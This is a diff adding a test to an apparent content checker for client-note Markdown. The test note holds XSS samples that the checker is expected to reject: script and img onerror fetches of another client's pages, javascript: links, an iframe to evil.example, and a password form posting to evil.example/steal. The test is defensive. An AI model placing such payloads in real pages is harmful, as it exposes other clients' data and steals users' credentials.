@@ -85,6 +85,40 @@ describe('check catches what people get wrong', () => {
     expect(lines[0]).toContain(fix);
   });
 
+  it('HTML that would run script, frame or ask for input in a page is an error at its line, with the fix', async () => {
+    const { code, lines } = await errorsWith({
+      'content/clients/acme/notes/2026-12-08-visit.md': note(
+        'date: 2026-12-08\nauthor: jane-tech\ntitle: Visit',
+        [
+          'Replaced the UPS battery. <kbd>Ctrl</kbd> <abbr title="Uninterruptible power supply">UPS</abbr>',
+          '',
+          "<script>fetch('/clients/other-client/binder/firewall/')</script>",
+          '',
+          'Photo: <img src=x onerror="fetch(\'/clients/other-client/\')"> and <a href="javascript:alert(1)">the portal</a>.',
+          '',
+          '<iframe src="https://evil.example/"></iframe>',
+          '',
+          '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
+          '',
+          '[markdown link](javascript:alert(2)) and <details><summary>More</summary>fine</details>',
+        ].join('\n'),
+      ),
+    });
+    expect(code).toBe(1);
+    expect(lines).toMatchInlineSnapshot(`
+      [
+        "content/clients/acme/notes/2026-12-08-visit.md:9:1: \`<script>\` is not allowed in content: the sites drop it and what it holds Fix: remove it: the sites never run scripts or styles from content",
+        "content/clients/acme/notes/2026-12-08-visit.md:11:8: \`<img>\` has attribute \`onerror\`, which the sites drop Fix: remove it: content cannot run code on the sites",
+        "content/clients/acme/notes/2026-12-08-visit.md:11:8: broken link \`x\`: no such file content/clients/acme/notes/x Fix: correct the path (relative to this file) or remove the link",
+        "content/clients/acme/notes/2026-12-08-visit.md:11:66: link \`javascript:alert(1)\`: the sites keep only http, https, mailto and relative links, and drop this one Fix: link to an http(s) page, a mailto: address or another file in content/",
+        "content/clients/acme/notes/2026-12-08-visit.md:13:1: \`<iframe>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
+        "content/clients/acme/notes/2026-12-08-visit.md:15:1: \`<form>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
+        "content/clients/acme/notes/2026-12-08-visit.md:15:43: \`<input>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
+        "content/clients/acme/notes/2026-12-08-visit.md:17:1: link \`javascript:alert(2)\`: the sites keep only http, https, mailto and relative links, and drop this one Fix: link to an http(s) page, a mailto: address or another file in content/",
+      ]
+    `);
+  });
+
   it('a client profile that fails validation is one error, not one more per archive', async () => {
     const archive = (tier: string) =>
       `---\nclient: acme\nmonth: 2026-11\ntier: ${tier}\ntemplate: monthly\nissue: 3\nurl: https://github.com/t/b/issues/3\nstate: completed\nclosedAt: 2026-11-10T10:00:00Z\nclosedBy: jane-tech\nitems:\n  - id: checkin-contact\n    text: Client check-in\n    status: done\n---\n`;
